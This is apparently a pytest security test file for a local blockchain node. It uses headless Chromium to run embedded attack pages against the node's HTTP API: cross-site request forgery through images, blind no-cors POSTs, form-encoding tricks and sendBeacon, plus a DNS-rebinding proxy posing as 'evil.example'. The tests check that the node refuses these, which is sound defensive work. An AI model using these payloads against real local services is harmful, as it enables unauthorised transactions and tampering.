"""A real browser shows the pages of strangers to whoever runs a node, and the node stays what it was."""

import http.client
import json
import os
import shutil
import signal
import socket
import subprocess
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from chain import canonical
from families import LECTURE
from processes import ENVIRONMENT

REPORT_S = 60  # until a page has done all that it wants to do, on a busy machine

# What every page starts with: `attempt` notes what a promise came to, `done` tells the server of it.
HEAD = """<!doctype html><meta charset="utf-8"><body><script>
const NODE = "%NODE%", results = {};
const after = ms => new Promise(resolve => setTimeout(resolve, ms));
const attempt = async (name, what) => {
  try { results[name] = await Promise.race([what(), after(8000).then(() => "no answer")]); }
  catch (error) { results[name] = "failed"; }
};
const done = () => fetch(location.origin + "/report", {method: "POST", body: JSON.stringify(results)});
const read = async (path, more) => {
  const answer = await fetch(NODE + path, more);
  return [answer.status, await answer.text()];
};
const json = body => ({method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body)});
const payment = {sender: "eve", recipient: "eve", amount: 1};
"""

# Everything that a page can send without being asked, and everything that needs to be allowed.
ATTACK = HEAD + """
const element = (tag, more) => new Promise(resolve => {
  const made = Object.assign(document.createElement(tag), more);
  made.onload = () => resolve("loaded"); made.onerror = () => resolve("failed");
  document.body.append(made);
});
const blind = (path, body, type) =>
  fetch(NODE + path, {method: "POST", mode: "no-cors", body: new Blob([JSON.stringify(body)], {type})}).then(() => "sent");
const form = (path, target, enctype) => {
  const frame = Object.assign(document.createElement("iframe"), {name: target});
  const made = Object.assign(document.createElement("form"), {action: NODE + path, method: "POST", enctype, target});
  made.append(Object.assign(document.createElement("input"), {name: '{"sender":"eve","recipient":"eve","amount":1,"x":"', value: '"}'}));
  document.body.append(frame, made);
  made.submit();
  return after(500);
};
(async () => {
  await attempt("image", () => element("img", {src: NODE + "/mine?recipient=eve"}));
  await attempt("image that resolves", () => element("img", {src: NODE + "/nodes/resolve"}));
  await attempt("script", () => element("script", {src: NODE + "/mine"}));
  await attempt("frame", () => element("iframe", {src: NODE + "/mine"}));
  await attempt("blind GET", () => fetch(NODE + "/mine", {mode: "no-cors"}).then(() => "sent"));
  for (const type of ["text/plain", "application/x-www-form-urlencoded", ""]) {
    await attempt("blind payment as " + type, () => blind("/transactions/new", payment, type));
    await attempt("blind peer as " + type, () => blind("/nodes/register", {nodes: ["localhost:1"]}, type));
    await attempt("blind proof as " + type, () => blind("/mine", {proof: %PROOF%}, type));
  }
  await attempt("beacon", async () => navigator.sendBeacon(NODE + "/transactions/new", JSON.stringify(payment)));
  await attempt("form", () => form("/transactions/new", "one", "text/plain"));
  await attempt("form that mines", () => form("/mine", "two", "application/x-www-form-urlencoded"));
  await attempt("sandbox", () => element("iframe", {sandbox: "allow-scripts", srcdoc:
    `<script>fetch("${NODE}/transactions/new", {method: "POST", mode: "no-cors", body: "{}"}); new Image().src = "${NODE}/mine"</` + "script>"}));
  await after(500);
  await attempt("chain", () => read("/chain"));
  await attempt("status", () => read("/api/v1/status"));
  await attempt("payment", () => read("/transactions/new", json(payment)));
  await attempt("peer", () => read("/nodes/register", json({nodes: ["localhost:1"]})));
  await attempt("proof", () => read("/mine", json({proof: %PROOF%})));
  await attempt("DELETE", () => read("/api/v1/peers/localhost:2", {method: "DELETE"}));
  await done();
})();
</script>"""

# The coins of others, for a stranger who shows images.
IMAGES = HEAD + """
(async () => {
  for (const path of ["/mine?recipient=%EVE%", "/mine"])
    await attempt(path, () => new Promise(resolve => {
      const image = new Image();
      image.onload = image.onerror = () => resolve("asked");
      image.src = NODE + path;
    }));
  await done();
})();
</script>"""

# What a page does that whoever runs the node allowed.
FRIEND = HEAD + """
(async () => {
  await attempt("chain", () => read("/chain"));
  await attempt("payment", () => read("/transactions/new", json(payment)));
  await attempt("proof", () => read("/mine", json({proof: %PROOF%})));
  await attempt("DELETE", () => read("/api/v1/peers/localhost:2", {method: "DELETE"}));
  await done();
})();
</script>"""


class Stranger:
    """A site with one page, which hears what the page found out.

    As a proxy it is a name server, too, that changes its mind: the page comes from here, and whatever
    it asks its own name for goes to `rebound`.
    """

    def __init__(self, rebound=None):
        self.page, self.report, self.reported = "", None, threading.Event()
        site = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def do_POST(self):
                body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
                path = "/" + self.path.split("://")[-1].partition("/")[2] if "://" in self.path else self.path
                if path == "/report":
                    site.report = json.loads(body)
                    site.reported.set()
                    self.answer(200, "text/plain", b"")
                elif path == "/page":
                    self.answer(200, "text/html", site.page.encode())
                elif rebound and "evil.example" in self.path:
                    connection = http.client.HTTPConnection("127.0.0.1", rebound.port, timeout=10)
                    headers = {name: value for name, value in self.headers.items() if "proxy" not in name.lower()}
                    connection.request(self.command, path, body, headers)
                    answer = connection.getresponse()
                    self.answer(answer.status, answer.headers.get("Content-Type", "text/plain"), answer.read())
                else:
                    self.answer(404, "text/plain", b"")

            do_GET = do_DELETE = do_OPTIONS = do_POST

            def answer(self, status, kind, body):
                self.send_response(status)
                self.send_header("Content-Type", kind)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.port = self.server.server_port
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def show(self, url, home, *options):
        """Lets a browser show the page at `url`; what the page reports."""
        browser = subprocess.Popen(
            ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
             "--disable-background-networking", "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage",
             f"--user-data-dir={home}", "--remote-debugging-port=0", *options, url],
            stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True, env=ENVIRONMENT,
            start_new_session=True)
        said = []
        threading.Thread(target=lambda: said.extend(browser.stderr), daemon=True).start()
        try:
            assert self.reported.wait(REPORT_S), f"the page at {url} reports nothing\n{''.join(said)}"
            return self.report
        finally:
            os.killpg(browser.pid, signal.SIGKILL)
            browser.wait()

    def stop(self):
        """Closes the site."""
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(autouse=True)
def chromium():
    """Without a browser there is nothing to test; `cargo xtask test` installs it."""
    if not shutil.which("chromium"):
        pytest.skip("no chromium: apt-get install chromium")


@pytest.fixture
def site():
    """Opens sites for one test."""
    opened = []

    def open_site(rebound=None):
        opened.append(Stranger(rebound))
        return opened[-1]

    yield open_site
    for each in opened:
        each.stop()


def state(node):
    """All that a page could change."""
    status = node.get("/api/v1/status").json()
    peers = node.get("/api/v1/peers").json()["peers"]
    return canonical(node.chain()), status["queued"], [peer["address"] for peer in peers]


def written(page, node_url, proof):
    """A page for a node."""
    return page.replace("%NODE%", node_url).replace("%PROOF%", str(proof))


def started(start, *more):
    """A node with a peer that a page could forget, and its next proof."""
    node = LECTURE.rust_node(start, more=more)
    node.register("localhost:2")
    return node, LECTURE.rules.lowest_proof(node.chain()[-1])


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1", "127.1"])
def test_a_strangers_page_changes_nothing_and_reads_nothing(start, site, tmp_path, name):
    node, proof = started(start)
    before = state(node)
    stranger = site()
    stranger.page = written(ATTACK, f"http://{name}:{node.port}", proof)
    # From another port of the same name, which browsers call the same site, or from another one.
    results = stranger.show(f"http://localhost:{stranger.port}/page", tmp_path / "browser")
    assert state(node) == before, f"{results}\n{node.output()}"
    for read in ("chain", "status", "payment", "peer", "proof", "DELETE"):
        assert results[read] == "failed", f"{read}: {results}\n{node.output()}"
    assert results["image"] == "failed"
    told = [line for line in node.stderr if "--cors" in line]
    assert 1 <= len(told) <= 4 and any(f"http://localhost:{stranger.port}" in line for line in told), node.output()


# Names of this machine under which browsers send an image's call without a word about its page: they
# speak of it only where a call is encrypted, or plainly stays on their own machine.
SILENT = ["0.0.0.0", "[::ffff:127.0.0.1]", socket.gethostname().partition(".")[0].replace("localhost", "pc12"), "pc12.local", "10.9.9.1"]


@pytest.mark.parametrize("name", SILENT)
def test_under_names_that_browsers_keep_silent_about_it_mines_for_nobody_else(start, site, tmp_path, name):
    node, proof = started(start)
    _, queued, peers = state(node)
    before = len(node.chain())
    stranger = site()
    stranger.page = written(ATTACK, f"http://{name}:{node.port}", proof)
    results = stranger.show(f"http://localhost:{stranger.port}/page", tmp_path / "browser",
                            f"--host-resolver-rules=MAP {name} 127.0.0.1,EXCLUDE localhost")
    said = f"{results}\n{node.output()}"
    chain = node.chain()
    # Some of it may have been an image of /mine, which is answered to programs as well: to the node's own profit.
    assert state(node)[1:] == (queued, peers), said
    own = node.get("/api/v1/status").json()["node"]
    for block in chain[before:]:
        assert [entry["recipient"] for entry in block["transactions"]] == [own], said
    for read in ("chain", "status", "payment", "peer", "proof", "DELETE"):
        assert results[read] == "failed", f"{read}: {said}"


@pytest.mark.parametrize("name", ["localhost", *SILENT])
def test_no_image_makes_a_node_mine_for_the_stranger_who_shows_it(start, site, tmp_path, name):
    # Accounts that everybody has on that chain.
    own = "forge133luv4f27suy5ymere3m43ul7270am03gw5g6mwykcyq4zpfehqsdsuhw0"
    eve = "forge1jn82ryvmmn00c3u0s5e600uf2jr8ms38mfuh23jzevhyralrqrvq0akm6l"
    node = start.rust("forge-dev", zeros=None, more=("--to", own))
    stranger = site()
    stranger.page = IMAGES.replace("%NODE%", f"http://{name}:{node.port}").replace("%EVE%", eve)
    results = stranger.show(f"http://127.0.0.1:{stranger.port}/page", tmp_path / "browser",
                            f"--host-resolver-rules=MAP {name} 127.0.0.1")
    mined = canonical(node.chain()[1:])
    assert list(results.values()) == ["asked", "asked"] and eve not in mined, f"{results}\n{mined}\n{node.output()}"
    # Where browsers keep silent, a node can't tell such an image from a program; it loses nothing by it.
    assert (own in mined) == (name in SILENT), f"{mined}\n{node.output()}"


def test_the_same_page_mines_on_a_node_that_trusts_browsers(start, site, tmp_path):
    """What the other tests try is not stopped by the browser: it comes through to a Python node."""
    node = start.python("dvf_node.py", "--zeros", 2, "--threaded")
    stranger = site()
    stranger.page = written(ATTACK, f"http://localhost:{node.port}", 1)
    stranger.show(f"http://127.0.0.1:{stranger.port}/page", tmp_path / "browser")
    assert len(node.chain()) > 1, node.output()


def test_a_name_that_was_rebound_to_the_node_is_refused(start, site, tmp_path):
    node, proof = started(start)
    before = state(node)
    stranger = site(rebound=node)
    origin = f"http://evil.example:{node.port}"
    stranger.page = written(ATTACK, origin, proof)
    results = stranger.show(f"{origin}/page", tmp_path / "browser", f"--proxy-server=http://127.0.0.1:{stranger.port}")
    assert state(node) == before, f"{results}\n{node.output()}"
    for name in ("chain", "status", "payment", "peer", "proof", "DELETE"):
        status, text = results[name]
        assert status == 421 and "--host evil.example" in text, f"{name}: {results}"
    assert sum("--host evil.example" in line for line in node.stderr) == 1, node.output()


def test_a_page_that_was_allowed_does_what_programs_do(start, site, tmp_path):
    friend = site()
    origin = f"http://localhost:{friend.port}"
    node, proof = started(start, "--cors", origin)
    friend.page = written(FRIEND, node.url, proof)
    results = friend.show(f"{origin}/page", tmp_path / "browser")
    status, text = results["chain"]
    assert status == 200 and json.loads(text)["length"] == 1, results
    assert [results[name][0] for name in ("payment", "proof", "DELETE")] == [201, 200, 200], results
    assert len(node.chain()) == 2 and "localhost:2" not in node.get("/api/v1/peers").text


def test_the_nodes_own_page_may_change_things_under_a_name_that_was_given(start, site, tmp_path):
    """As through a tunnel: the same name, which the node was told."""
    node, proof = started(start, "--host", "evil.example")
    tunnel = site(rebound=node)
    origin = f"http://evil.example:{node.port}"
    tunnel.page = written(FRIEND, origin, proof)
    results = tunnel.show(f"{origin}/page", tmp_path / "browser", f"--proxy-server=http://127.0.0.1:{tunnel.port}")
    assert [results[name][0] for name in ("chain", "payment", "proof", "DELETE")] == [200, 201, 200, 200], results
